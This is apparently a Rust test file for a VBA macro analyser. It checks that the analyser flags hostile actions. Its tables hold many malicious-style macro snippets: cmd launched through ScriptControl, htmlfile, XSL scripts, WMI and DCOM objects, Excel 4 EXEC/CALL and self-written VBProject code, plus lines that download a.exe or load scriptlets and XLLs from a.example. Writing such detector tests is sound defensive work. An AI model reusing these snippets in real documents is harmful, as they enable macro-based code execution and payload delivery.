//! What macros hand to other interpreters and programs: scripts, style sheets, objects elsewhere, macros that are made.

use super::tests_eval::{all, details, opened};
use super::*;
use crate::languages::ActionKind;

const CONTROL: &str = "Set s = CreateObject(\"MSScriptControl.ScriptControl\")\ns.Language = \"JScript\"\n";

fn has(kind: ActionKind, body: &str, expected: &str) -> Option<String> {
    let found = details(kind, &opened(body));
    (!found.iter().any(|detail| detail == expected)).then(|| format!("{body}\n-> {found:?}, not {expected}\n"))
}

#[test]
fn scripts_that_macros_put_together() {
    use ActionKind::{Download, Fetch, Run};
    let control = |rest: &str| format!("{CONTROL}{rest}");
    let table: Vec<(ActionKind, String, &str)> = vec![
        (Run, control("Shell s.Eval(\"'cm' + String.fromCharCode(100)\")"), "cmd"),
        (Run, control("s.AddCode \"function f(a) { return a.split('').reverse().join('') }\"\nShell s.Run(\"f\", \"dmc\")"), "cmd"),
        (Run, control("s.AddCode \"function F(a) { return a + 'd' }\"\nShell s.CodeObject.f(\"cm\")"), "cmd"),
        (Run, control("s.ExecuteStatement \"new ActiveXObject('WScript.Shell').Run('cm' + 'd')\""), "cmd"),
        (Run, control("s.AddCode \"var x = 'cm'\"\ns.ExecuteStatement \"x += 'd'\"\nShell s.Eval(\"x\")"), "cmd"),
        (Run, control("s.AddCode \"function g() { new ActiveXObject('WScript.Shell').Run(unescape('%63md')) }\"\ns.Run \"g\""), "cmd"),
        (
            Fetch,
            control("s.ExecuteStatement \"x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://a' + '.example/x', false)\""),
            "http://a.example/x",
        ),
        (
            Download,
            control("s.Eval \"x = new ActiveXObject('MSXML2.XMLHTTP'), t = new ActiveXObject('ADODB.Stream'), x.open('GET', 'http://a.example/x', 0), t.Write(x.responseBody), t.SaveToFile('a.exe')\""),
            "http://a.example/x a.exe",
        ),
        (
            Run,
            "Set h = CreateObject(\"htmlfile\")\nh.parentWindow.execScript \"new ActiveXObject('WScript.Shell').Run('cm' + 'd')\", \"JScript\"".into(),
            "cmd",
        ),
        (
            Run,
            "Set h = CreateObject(\"htmlfile\")\nh.write \"<script>function f(x) { return x + 'd' }</script>\"\nShell h.parentWindow.f(\"cm\")".into(),
            "cmd",
        ),
        (
            Run,
            "Set h = CreateObject(\"htmlfile\")\nh.parentWindow.execScript \"function f(x) { return unescape(x) }\"\nShell h.parentWindow.f(\"%63md\")".into(),
            "cmd",
        ),
        (
            Run,
            "Set h = CreateObject(\"htmlfile\")\nh.write \"<script language='VBScript'>CreateObject(\"\"WScript.Shell\"\").Run \"\"cm\"\" & Chr(100)</script>\"".into(),
            "cmd",
        ),
        (
            Run,
            "Set x = CreateObject(\"MSXML2.DOMDocument\")\nx.loadXML \"<xsl:stylesheet><ms:script language='JScript'><![CDATA[ new ActiveXObject('WScript.Shell').Run('cm' + 'd') ]]></ms:script></xsl:stylesheet>\"\nx.transformNode x".into(),
            "cmd",
        ),
        (
            Run,
            "Set x = CreateObject(\"MSXML2.DOMDocument\")\nx.loadXML \"<xsl:stylesheet><ms:script>function f() { new ActiveXObject('WScript.Shell').Run('cm' + 'd') }</ms:script></xsl:stylesheet>\"\nSet y = CreateObject(\"MSXML2.DOMDocument\")\nt = y.transformNode(x)".into(),
            "cmd",
        ),
        (
            Run,
            "Set x = CreateObject(\"MSXML2.DOMDocument\")\nx.load \"http://a.example/x.xsl\"\nx.transformNode x".into(),
            "http://a.example/x.xsl",
        ),
        (
            Run,
            "Set i = CreateObject(\"InternetExplorer.Application\")\ni.Navigate \"vbscript:CreateObject(\"\"WScript.Shell\"\").Run(\"\"cm\"\" & Chr(100))\"".into(),
            "cmd",
        ),
    ];
    let wrong: Vec<String> = table.iter().filter_map(|(kind, body, expected)| has(*kind, body, expected)).collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn objects_elsewhere_and_other_programs() {
    use ActionKind::{Download, Generate, Hidden, Indirect, Load, Run};
    let _ = (Hidden, Indirect);
    let table: &[(ActionKind, &str, &str)] = &[
        (Run, "Set s = CreateObject(\"WScript.Shell\", \"pc2.example\")\ns.Run \"cmd\"", "cmd"),
        (Run, "GetObject \"script:http://a.example/x.sct\"", "script:http://a.example/x.sct"),
        (Run, "Set o = GetObject(\"SCRIPT:\" & \"http://a.example/x.sct\")", "SCRIPT:http://a.example/x.sct"),
        (Run, "GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\").Create \"cmd\"", "cmd"),
        (
            Run,
            "GetObject(\"winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2\").Get(\"Win32_\" & \"Process\").Create \"cmd\"",
            "cmd",
        ),
        (
            Run,
            "Set w = GetObject(\"winmgmts:root/cimv2\")\nSet p = w.Get(\"Win32_ProcessStartup\").SpawnInstance_\nw.Get(\"Win32_Process\").Create \"cmd\", Null, p, i",
            "cmd",
        ),
        (
            Run,
            "CreateObject(\"WbemScripting.SWbemLocator\").ConnectServer(\".\", \"root\\cimv2\").Get(\"Win32_Process\").Create \"cmd\"",
            "cmd",
        ),
        (Run, "GetObject(\"new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}\").Run \"cmd\"", "cmd"),
        (Run, "GetObject(\"new:\" & \"72C24DD5-D70A-438B-8A42-98424B88AFB8\").Run \"cmd\"", "cmd"),
        (
            Run,
            "GetObject(\"new:{9BA05972-F6A8-11CF-A442-00A0C90A8F39}\").Item.Document.Application.ShellExecute \"cmd\", \"/c x\"",
            "cmd /c x",
        ),
        (
            Run,
            "GetObject(\"new:{C08AFD90-F2A1-11D1-8455-00A0C91F3880}\").Document.Application.ShellExecute \"cmd\", \"/c x\"",
            "cmd /c x",
        ),
        (
            Run,
            "CreateObject(\"MMC20.Application\", \"10.0.0.1\").Document.ActiveView.ExecuteShellCommand \"cmd\", 0, \"/c x\", \"7\"",
            "cmd /c x",
        ),
        (Run, "Set x = CreateObject(\"Excel.Application\")\nx.DDEInitiate \"cmd\", \"/c x\"", "cmd /c x"),
        (Run, "Application.DDEInitiate \"cmd\", \"/c x\"", "cmd /c x"),
        (Run, "Set o = CreateObject(\"Outlook.Application\")\no.CreateObject(\"WScript.Shell\").Run \"cmd\"", "cmd"),
        (
            Run,
            "Set o = GetObject(, \"Outlook.Application\")\nSet s = o.CreateObject(\"Shell.Application\")\ns.ShellExecute \"cmd\"",
            "cmd",
        ),
        (Load, "Application.RegisterXLL \"C:\\a.xll\"", "C:\\a.xll"),
        (Load, "Set x = CreateObject(\"Excel.Application\")\nx.RegisterXLL \"a\" & \".xll\"", "a.xll"),
        (Download, "Application.RegisterXLL \"http://a.example/a.xll\"", "http://a.example/a.xll"),
        (
            Download,
            "Set x = CreateObject(\"Excel.Application\")\nx.RegisterXLL \"http://a.example/a.xll\"",
            "http://a.example/a.xll",
        ),
        (Run, "ExecuteExcel4Macro \"EXEC(\" & Chr(34) & \"cmd\" & Chr(34) & \")\"", "EXEC(\"cmd\")"),
        (
            Run,
            "CreateObject(\"Excel.Application\").ExecuteExcel4Macro \"CALL(\"\"Shell32\"\",\"\"ShellExecuteA\"\",\"\"JJCCCJJ\"\",0,\"\"open\"\",\"\"cmd\"\",0,0,0)\"",
            "CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",0,\"open\",\"cmd\",0,0,0)",
        ),
        (Run, "x = Application.Evaluate(\"EXEC(\"\"cmd\"\")\")", "EXEC(\"cmd\")"),
        (Run, "Evaluate \"=CALL(\"\"a\"\",\"\"b\"\")\"", "=CALL(\"a\",\"b\")"),
        (Run, "x = [EXEC(\"cmd\")]", "EXEC(\"cmd\")"),
        (Download, "Application.Run \"'http://a.example/a.xlam'!Go\"", "'http://a.example/a.xlam'!Go"),
        (Download, "Application.Run \"'\\\\a.example@SSL\\x\\a.xlam'!Go\"", "'\\\\a.example@SSL\\x\\a.xlam'!Go"),
        (
            Generate,
            "Set w = CreateObject(\"Word.Application\")\nSet d = w.Documents.Add\nd.VBProject.VBComponents(1).CodeModule.AddFromString \"Sub x()\"",
            "Sub x()",
        ),
        (
            Generate,
            "Set w = CreateObject(\"Excel.Application\")\nw.Workbooks.Add.VBProject.VBComponents.Add(1).CodeModule.InsertLines 1, \"Sub x()\"",
            "Sub x()",
        ),
        (
            Run,
            "Set d = CreateObject(\"Excel.Application\").Workbooks.Add\nd.VBProject.VBComponents.Add(1).CodeModule.AddFromString \"Sub x()\" & vbLf & \"Shell \"\"cm\"\" & Chr(100)\" & vbLf & \"End Sub\"\nd.Application.Run \"x\"",
            "cmd",
        ),
        (
            Run,
            "ThisWorkbook.VBProject.VBComponents(1).CodeModule.AddFromString \"Sub Auto_Go()\" & vbLf & \"Shell \"\"cm\"\" & Chr(100)\" & vbLf & \"End Sub\"\nApplication.Run \"Auto_Go\"",
            "cmd",
        ),
    ];
    let wrong: Vec<String> = table.iter().filter_map(|(kind, body, expected)| has(*kind, body, expected)).collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn arrays_of_members_and_files_that_are_read() {
    let source = "Type T\nA() As String\nEnd Type\nSub AutoOpen()\nDim x As T\nReDim x.A(0 To 1)\nx.A(0) = \"c\"\n\
                  x.A(1) = \"m\"\nReDim Preserve x.A(0 To 2)\nx.A(2) = \"d\"\nShell Join(x.A, \"\")\nEnd Sub\n";
    assert_eq!(details(ActionKind::Run, source), ["cmd"]);
    let with = "Type T\nA() As String\nEnd Type\nSub AutoOpen()\nDim x As T\nWith x\nReDim .A(1)\n.A(0) = \"cm\"\n\
                .A(1) = \"d\"\nEnd With\nShell x.A(0) & x.A(1)\nEnd Sub\n";
    assert_eq!(details(ActionKind::Run, with), ["cmd"]);
    let input = opened("Open \"a\" For Input As #1\ns = Input(LOF(1), #1)\nClose #1\nShell \"cm\" & Chr(100)");
    assert_eq!(details(ActionKind::Run, &input), ["cmd"]);
}

#[test]
fn honest_uses_of_the_same() {
    let control = |rest: &str| format!("{CONTROL}{rest}");
    for body in [
        control("s.AddCode \"function get(o, k) { return o[k]; }\"\nx = s.Run(\"get\", a, \"b\")"),
        "Set x = CreateObject(\"MSXML2.DOMDocument\")\nx.loadXML \"<xsl:stylesheet><xsl:template match='/'/></xsl:stylesheet>\"\nt = x.transformNode(x)".into(),
        "x = Evaluate(\"SUM(A1:A3)\")\ny = [A1].Value\nz = Application.Evaluate(\"INDEX(A1:B2, 1)\")".into(),
        "Application.Run \"'Book 1.xlsm'!Go\"".into(),
        "x = [CALLS]\ny = [EXEC_DATE]".into(),
        "Set e = GetObject(, \"Excel.Application\")\ne.Run \"Go\"".into(),
        "Set w = CreateObject(\"Word.Application\")\nw.Documents.Open \"C:\\a.docx\"\nw.Run \"Go\"".into(),
    ] {
        let acts: Vec<_> = all(&[("M", ModuleKind::Standard, &opened(&body))])
            .into_iter()
            .filter(|action| action.kind > ActionKind::Indirect || matches!(action.kind, ActionKind::Run | ActionKind::Download))
            .map(|action| format!("{:?} {}", action.kind, action.detail))
            .collect();
        assert_eq!(acts, [""; 0], "{body}");
    }
}
